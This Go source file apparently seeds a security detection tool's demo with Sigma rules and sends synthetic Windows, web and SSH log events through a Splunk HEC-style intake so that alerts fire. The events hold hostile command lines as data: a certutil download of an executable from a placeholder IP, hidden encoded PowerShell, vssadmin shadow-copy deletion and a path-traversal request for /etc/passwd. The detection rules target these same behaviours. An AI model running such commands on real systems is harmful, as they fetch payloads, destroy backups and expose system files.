package demo

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/kubu-gov/kubu/internal/corpus"
	"github.com/kubu-gov/kubu/internal/detect"
	"github.com/kubu-gov/kubu/internal/intake"
)

// demoRules are written for the demo: the events SendEvents sends match
// them, so the demo has alerts whether or not the SigmaHQ corpus is here.
var demoRules = []string{`title: Certutil used to download a file
id: 5d1c9b0e-6f7a-4d35-9a51-d3e0c0000001
status: stable
description: certutil.exe fetching a URL, a common way to bring tools onto a host.
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: urlcache
  condition: selection
`, `title: Shadow copies deleted
id: 5d1c9b0e-6f7a-4d35-9a51-d3e0c0000002
status: stable
description: vssadmin deleting volume shadow copies, typical just before ransomware encrypts.
level: critical
tags: [attack.impact, attack.t1490]
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\vssadmin.exe'
    CommandLine|contains|all: [delete, shadows]
  condition: selection
`, `title: Encoded PowerShell command line
id: 5d1c9b0e-6f7a-4d35-9a51-d3e0c0000003
status: stable
description: PowerShell started with a base64-encoded command.
level: medium
tags: [attack.execution, attack.t1059.001]
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\powershell.exe'
    CommandLine|contains: ' -enc '
  condition: selection
`, `title: Path traversal in a web request
id: 5d1c9b0e-6f7a-4d35-9a51-d3e0c0000004
status: stable
description: A request path climbing out of the web root.
level: medium
tags: [attack.initial-access, attack.t1190]
detection:
  selection:
    url|contains: '../'
  condition: selection
`, `title: SSH password guessing
id: 5d1c9b0e-6f7a-4d35-9a51-d3e0c0000005
status: stable
description: Failed SSH password sign-ins.
level: low
tags: [attack.credential-access, attack.t1110]
detection:
  selection:
    program: sshd
    message|contains: Failed password
  condition: selection
`}

// corpusKeywords pick SigmaHQ process-creation rules that fit the demo's
// story (tool transfer, discovery, persistence, defence evasion).
var corpusKeywords = []string{"certutil", "bitsadmin", "whoami", "vssadmin", "schtasks", "mshta", "rundll32", "powershell_encod", "wmic", "reg_add", "net_user"}

// seedRules loads the demo's rules and, when the SigmaHQ corpus is present,
// up to 30 of its process-creation rules; it returns how many it loaded.
func seedRules(ctx context.Context, det *detect.Service) (int, error) {
	n := 0
	for _, y := range demoRules {
		if _, err := det.CreateRule(ctx, operator, []byte(y)); err != nil {
			return n, fmt.Errorf("demo rule: %w", err)
		}
		n++
	}
	dir, err := corpus.Dir()
	if err != nil {
		return n, nil // no corpus: the demo's own rules only
	}
	files, _ := filepath.Glob(filepath.Join(dir, "sigma", "rules", "windows", "process_creation", "*.yml"))
	sort.Strings(files)
	taken := 0
	for _, f := range files {
		if taken >= 30 {
			break
		}
		base := filepath.Base(f)
		match := false
		for _, k := range corpusKeywords {
			match = match || strings.Contains(base, k)
		}
		if !match {
			continue
		}
		y, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		if _, err := det.CreateRule(ctx, operator, y); err != nil {
			continue // a rule kubu cannot take (or already has) is left out of the demo
		}
		taken++
	}
	return n + taken, nil
}

// demoEvent is one event the demo ships over HEC.
type demoEvent struct {
	Time       float64        `json:"time"`
	Host       string         `json:"host"`
	Sourcetype string         `json:"sourcetype"`
	Event      map[string]any `json:"event"`
}

// SendEvents ships the demo's events into a running kubu at base the way a
// log shipper would (Splunk HEC, with an intake token per agency), so
// detection raises alerts through the real intake and detection path. The
// events are dated over the last eight weeks.
func SendEvents(ctx context.Context, in *intake.Service, base string) (int, error) {
	now := time.Now().UTC()
	sysmon := func(image, cmd, user string) map[string]any {
		return map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": image, "CommandLine": cmd,
			"User": user, "ParentImage": `C:\Windows\explorer.exe`}
	}
	type batch struct {
		agency string
		events []demoEvent
	}
	var batches []batch
	for i, ag := range []struct{ code, host, user string }{
		{"MOH", "moh-ws-0142", `MOH\lim.wei`}, {"MOE", "moe-ws-0077", `MOE\tan.ah.kow`},
		{"ICA", "ica-gate-03", `ICA\svc_gate`}, {"IRAS", "iras-ws-0310", `IRAS\nur.aisyah`},
	} {
		var evs []demoEvent
		for d := range 8 {
			at := now.Add(-time.Duration(56-d*7-i) * 24 * time.Hour)
			ts := func(off time.Duration) float64 { return float64(at.Add(off).UnixMilli()) / 1000 }
			evs = append(evs,
				demoEvent{ts(0), ag.host, "XmlWinEventLog", sysmon(`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe`, ag.user)},
				demoEvent{ts(time.Minute), ag.host, "XmlWinEventLog", sysmon(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`, ag.user)},
				demoEvent{ts(2 * time.Minute), ag.host, "XmlWinEventLog", sysmon(`C:\Windows\System32\whoami.exe`, `whoami /all`, ag.user)},
				demoEvent{ts(3 * time.Minute), ag.host, "XmlWinEventLog", sysmon(`C:\Windows\notepad.exe`, `notepad.exe C:\notes.txt`, ag.user)},
				demoEvent{ts(4 * time.Minute), "web-" + strings.ToLower(ag.code), "access_combined", map[string]any{"url": "/download?file=../../../../etc/passwd", "status": 400, "client_ip": "198.51.100.23"}},
				demoEvent{ts(5 * time.Minute), "bastion-" + strings.ToLower(ag.code), "syslog", map[string]any{"program": "sshd", "message": "Failed password for root from 198.51.100.99 port 52311 ssh2"}},
			)
			if ag.code == "MOH" && d == 7 {
				evs = append(evs, demoEvent{ts(10 * time.Minute), ag.host, "XmlWinEventLog", sysmon(`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `NT AUTHORITY\SYSTEM`)})
			}
		}
		batches = append(batches, batch{ag.code, evs})
	}
	sent := 0
	client := &http.Client{Timeout: 30 * time.Second}
	for _, b := range batches {
		tok, _, err := in.CreateToken(ctx, operator, b.agency, "demo shipper")
		if err != nil {
			return sent, fmt.Errorf("demo intake token for %s: %w", b.agency, err)
		}
		var body bytes.Buffer
		enc := json.NewEncoder(&body)
		for _, e := range b.events {
			if err := enc.Encode(e); err != nil {
				return sent, err
			}
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, strings.TrimSuffix(base, "/")+"/services/collector/event", &body)
		if err != nil {
			return sent, err
		}
		req.Header.Set("Authorization", "Splunk "+tok)
		resp, err := client.Do(req)
		if err != nil {
			return sent, fmt.Errorf("demo events for %s: %w", b.agency, err)
		}
		msg, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<10))
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return sent, fmt.Errorf("demo events for %s: HEC answered %d %s", b.agency, resp.StatusCode, msg)
		}
		sent += len(b.events)
	}
	return sent, nil
}
